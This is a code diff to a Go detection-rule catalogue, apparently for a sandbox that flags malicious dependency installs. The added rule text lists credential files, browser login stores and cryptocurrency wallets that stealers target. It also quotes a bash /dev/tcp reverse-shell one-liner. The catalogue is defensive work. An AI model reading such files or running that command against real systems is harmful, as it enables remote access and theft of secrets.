@@ -116,7 +116,10 @@ var catalogue = []Rule{
 		Summary: "The dependency read a credential file",
 		Description: "A file that holds credentials was opened for reading: ~/.aws/credentials or ~/.aws/config, ~/.npmrc, " +
 			"anything under ~/.ssh/, .env files, ~/.netrc, ~/.git-credentials, ~/.docker/config.json, ~/.kube/config, " +
-			"any process's /proc/<pid>/environ or /proc/<pid>/mem, or /etc/shadow. Paths are matched by suffix, wherever " +
+			"any process's /proc/<pid>/environ or /proc/<pid>/mem, /etc/shadow, a browser's credential stores (Login Data, " +
+			"Cookies, Local State, logins.json, key4.db in a Chrome, Chromium, Brave, Edge, Opera, Vivaldi or Firefox " +
+			"profile) or a cryptocurrency wallet (~/.electrum/wallets/, wallet.dat, an Ethereum keystore, Exodus, Solana's " +
+			"id.json). Paths are matched by suffix, wherever " +
 			"HOME is; failed opens count too. Only looking (a stat or a directory listing, with no read) is low: it learns " +
 			"whether the file is there, not what it holds. High when the same package, in the same phase, also reached out (a " +
 			"connection or DNS name that DBX006 counts as network, or a process other than its own lifecycle script); " +
@@ -151,7 +154,8 @@ var catalogue = []Rule{
 		Description: "A process was started whose program is a shell (sh, bash, dash, zsh, …), a downloader or network " +
 			"tool (curl, wget, nc, socat, ssh, nslookup, dig, host, ping, …), PowerShell or cmd, or an interpreter running " +
 			"inline code (node -e/-p, python -c, perl -e, …). In the install phase `sh -c <script>` is how lifecycle " +
-			"scripts run and is not counted, and neither is `node -e` whose code only loads one of the package's own " +
+			"scripts run and is not counted (unless its script connects through bash's /dev/tcp or /dev/udp, as reverse " +
+			"shells do: `bash -i >& /dev/tcp/host/port 0>&1`), and neither is `node -e` whose code only loads one of the package's own " +
 			"files (`try{require('./postinstall')}catch(e){}`): that is the package's install script, written inline. " +
 			"What the script starts is counted. An attempt to run such a program that does not exist counts the same " +
 			"(the sandbox runs a stand-in that fails like a missing command, so the attempt is seen).",
@@ -309,7 +313,8 @@ var attackRules = []Rule{
 		Summary: "The dependency executed a file it ships or wrote",
 		Description: "A program was executed (detached or not, from a lifecycle script, at import or in an invocation) whose " +
 			"file lies inside the dependency's own install directory or was written by the dependency — not an interpreter " +
-			"or shell running one of its scripts.",
+			"or shell running one of its scripts (also when the script is started by its #! line, as esbuild's install " +
+			"script runs its bin/esbuild, a Node script, unless the package wrote that file itself).",
 		Rationale: "Droppers ship or download a binary and start it, often detached so that it outlives the install; a " +
 			"library inside a Lambda function has little reason to execute files of its own.",
 		Remediation: "Inspect the executed file (the evidence has its path). A package that legitimately runs its own tool " +
